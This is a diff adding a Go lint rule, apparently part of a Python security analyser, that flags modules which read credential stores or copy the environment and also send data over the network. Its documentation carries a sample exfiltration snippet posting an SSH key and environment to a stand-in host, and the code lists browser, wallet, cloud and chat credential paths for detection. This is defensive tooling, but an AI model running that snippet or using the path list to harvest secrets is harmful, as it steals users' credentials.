@@ -1,0 +1,255 @@
+package supplychain
+
+import (
+	"strconv"
+	"strings"
+
+	"github.com/kraitsec/krait/internal/analysis"
+	"github.com/kraitsec/krait/internal/python/ast"
+	"github.com/kraitsec/krait/internal/python/semantic"
+)
+
+// CredentialExfiltration flags reads of credential stores, or copies of the
+// whole environment, in a module that also sends data over the network.
+var CredentialExfiltration = &analysis.Rule{
+	Code:       "KR818",
+	Name:       "credential-harvest-and-send",
+	Summary:    "credential store or environment read in a module that sends",
+	Severity:   analysis.SeverityHigh,
+	Confidence: analysis.ConfidenceMedium,
+	CWE:        []int{506, 200},
+	Kinds:      []ast.Kind{ast.KindCall, ast.KindDict},
+	Run:        runCredentials,
+	Doc: `## What it does
+Flags, in a module that also reaches the network (requests, urllib, httpx,
+socket, smtplib, ...), each access to a credential store: SSH keys
+(~/.ssh), cloud credentials (~/.aws, gcloud, Azure, kube and Docker
+configs), .git-credentials, .pypirc, .netrc, browser profiles (Login Data,
+Cookies, Local State, logins.json, key4.db of Chrome, Edge, Brave, Opera,
+Firefox, ...), Discord and Telegram session storage, keychains and crypto
+wallets; and each copy of the whole environment (dict(os.environ),
+os.environ.copy(), {**os.environ}, str() or json.dumps(os.environ))
+that is not passed on as a subprocess's env=. Alone, such a read is common (SSH and cloud clients do
+it) and is not reported: the rule needs the network send in the same module.
+
+## Why is this bad?
+Collecting keys, tokens, cookies and environment variables and sending them
+home is what most malicious packages on PyPI do; CI secrets sit in the
+environment. The combination of the two in one module is the exfiltration
+step itself.
+
+## Example
+~~~python
+import os, requests
+key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+requests.post("https://collect.example/k", data={"k": key, "env": dict(os.environ)})
+~~~
+
+## Use instead
+Let the tools that own credentials read them (paramiko, boto3), and pass a
+subprocess only the variables it needs:
+~~~python
+subprocess.run(cmd, env={"PATH": os.environ["PATH"]})
+~~~
+
+## References
+- [MITRE ATT&CK T1552.001: Credentials In Files](https://attack.mitre.org/techniques/T1552/001/)
+- [MITRE ATT&CK T1555.003: Credentials from Web Browsers](https://attack.mitre.org/techniques/T1555/003/)
+- [CWE-200: Exposure of Sensitive Information](https://cwe.mitre.org/data/definitions/200.html)
+`,
+}
+
+// credentialPaths are path fragments (lowercase, after a leading "/") of
+// stores of keys, tokens and passwords.
+var credentialPaths = []string{
+	"/.ssh/id_", "/.ssh", "/.aws/credentials", "/.aws", "/.config/gcloud", "/.azure/", "/.kube/config",
+	"/.docker/config.json", "/.git-credentials", "/.pypirc", "/.netrc", "/login data", "/local state",
+	"/web data", "/logins.json", "/key4.db", "/key3.db", "/cookies.sqlite", "/discord/local storage",
+	"/discordcanary/", "/discordptb/", "/telegram desktop/tdata", "/keychains/", "login.keychain",
+	"/.gnupg", "/wallet.dat", "/exodus/", "/electrum/wallets", "/.bitcoin", "/metamask",
+}
+
+// browserDirs mark a browser profile, where a file named Cookies holds sessions.
+var browserDirs = []string{
+	"google/chrome", "chromium", "bravesoftware", "microsoft/edge", "opera software", "mozilla/firefox",
+	"yandex/yandexbrowser", "vivaldi", "/user data/",
+}
+
+// credentialReaders are the calls that read, list or copy a path given as
+// their first argument.
+var credentialReaders = map[string]bool{
+	"builtins.open": true, "io.open": true, "codecs.open": true, "os.listdir": true, "os.walk": true,
+	"os.scandir": true, "glob.glob": true, "glob.iglob": true, "shutil.copy": true, "shutil.copy2": true,
+	"shutil.copyfile": true, "shutil.copytree": true, "shutil.make_archive": true, "sqlite3.connect": true,
+	"pathlib.Path": true, "os.path.exists": true, "os.path.isfile": true,
+}
+
+func runCredentials(p *analysis.Pass, n ast.Node) {
+	send := analysis.FileFact(p, sendFact)
+	if send == 0 {
+		return
+	}
+	m := p.Model
+	where := " in a module that sends data over the network (line " + strconv.Itoa(send) + ")"
+	if d, ok := n.(*ast.Dict); ok {
+		for i, k := range d.Keys {
+			if k == nil && isEnviron(m, d.Values[i]) && !passedAsEnv(p, d) {
+				p.Report(d, "copies the whole environment with {**os.environ}"+where)
+				return
+			}
+		}
+		return
+	}
+	c := n.(*ast.Call)
+	if how := environCopy(m, c); how != "" {
+		if !passedAsEnv(p, c) {
+			p.Report(c, "copies the whole environment with "+how+where)
+		}
+		return
+	}
+	qn := m.CalleeName(c)
+	var target ast.Expr
+	switch {
+	case credentialReaders[qn]:
+		target = argOr(c, 0)
+	default:
+		a, ok := c.Func.(*ast.Attribute)
+		if !ok {
+			return
+		}
+		switch a.Attr {
+		case "read_text", "read_bytes", "iterdir", "glob", "rglob":
+			target = a.Value
+		default:
+			return
+		}
+	}
+	if target == nil {
+		return
+	}
+	if store := credentialStore(textOf(m, target)); store != "" {
+		p.Report(c, "reads "+store+where)
+	}
+}
+
+// credentialStore returns the credential store a path names, or "".
+func credentialStore(text string) string {
+	text = "/" + text
+	if s, ok := hasAny(text, credentialPaths); ok {
+		return strings.TrimPrefix(s, "/")
+	}
+	if strings.HasSuffix(text, "/cookies") || strings.Contains(text, "/cookies/") || strings.Contains(text, "/network/cookies") {
+		if _, ok := hasAny(text, browserDirs); ok {
+			return "browser cookies"
+		}
+	}
+	if strings.Contains(text, "discord") && (strings.Contains(text, "leveldb") || strings.Contains(text, "local storage")) {
+		return "Discord tokens"
+	}
+	return ""
+}
+
+func isEnviron(m *semantic.Model, e ast.Expr) bool {
+	return m.QualifiedNameIs(e, "os.environ")
+}
+
+// environCopy says how a call copies the whole environment, or "".
+func environCopy(m *semantic.Model, c *ast.Call) string {
+	if a, ok := c.Func.(*ast.Attribute); ok && isEnviron(m, a.Value) {
+		switch a.Attr {
+		case "copy":
+			return "os.environ.copy()"
+		case "items":
+			return "" // reported where the items are collected
+		}
+		return ""
+	}
+	switch m.CalleeName(c) {
+	case "builtins.dict":
+		if len(c.Args) == 1 && len(c.Keywords) == 0 && (isEnviron(m, c.Args[0]) || isEnvItems(m, c.Args[0])) {
+			return "dict(os.environ)"
+		}
+	case "builtins.str", "builtins.repr", "json.dumps", "builtins.list":
+		if len(c.Args) >= 1 && (isEnviron(m, c.Args[0]) || isEnvItems(m, c.Args[0])) {
+			return m.CalleeName(c)[strings.IndexByte(m.CalleeName(c), '.')+1:] + "(os.environ)"
+		}
+	}
+	return ""
+}
+
+// isEnvItems reports whether e is os.environ.items().
+func isEnvItems(m *semantic.Model, e ast.Expr) bool {
+	c, ok := e.(*ast.Call)
+	if !ok {
+		return false
+	}
+	a, ok := c.Func.(*ast.Attribute)
+	return ok && a.Attr == "items" && isEnviron(m, a.Value)
+}
+
+// passedAsEnv reports whether the copy is given to a subprocess as env=,
+// directly or through the variable it is assigned to.
+func passedAsEnv(p *analysis.Pass, copy ast.Expr) bool {
+	envs := analysis.FileFact(p, envFact)
+	if envs.values[copy] {
+		return true
+	}
+	for _, v := range envs.names {
+		if v == copy {
+			return true
+		}
+	}
+	return false
+}
+
+// envArgs are the expressions given as env= somewhere in the file, and the
+// values of the variables given so.
+type envArgs struct {
+	values map[ast.Expr]bool
+	names  []ast.Expr
+}
+
+var envFact = &analysis.FileKey[*envArgs]{Compute: func(p *analysis.Pass) *envArgs {
+	ea := &envArgs{values: map[ast.Expr]bool{}}
+	if p.File == nil || p.File.Module == nil {
+		return ea
+	}
+	ast.Inspect(p.File.Module, func(n ast.Node) bool {
+		c, ok := n.(*ast.Call)
+		if !ok {
+			return true
+		}
+		for _, k := range c.Keywords {
+			if k.Arg != "env" {
+				continue
+			}
+			ea.values[k.Value] = true
+			if nm, ok := k.Value.(*ast.Name); ok && p.Model != nil {
+				if u := p.Model.Use(nm); u != nil && u.Symbol != nil {
+					for _, b := range u.Symbol.Bindings {
+						if b.Value != nil {
+							ea.names = append(ea.names, b.Value)
+						}
+					}
+				}
+			}
+		}
+		return true
+	})
+	return ea
+}}
+
+// sendFact is the line of the first network call of the file, 0 if none.
+var sendFact = &analysis.FileKey[int]{Compute: func(p *analysis.Pass) int {
+	line := 0
+	if p.File == nil || p.File.Module == nil || p.Model == nil {
+		return 0
+	}
+	ast.Inspect(p.File.Module, func(n ast.Node) bool {
+		if c, ok := n.(*ast.Call); ok && networkCalls[p.Model.CalleeName(c)] {
+			line = c.Lineno
+		}
+		return line == 0
+	})
+	return line
+}}
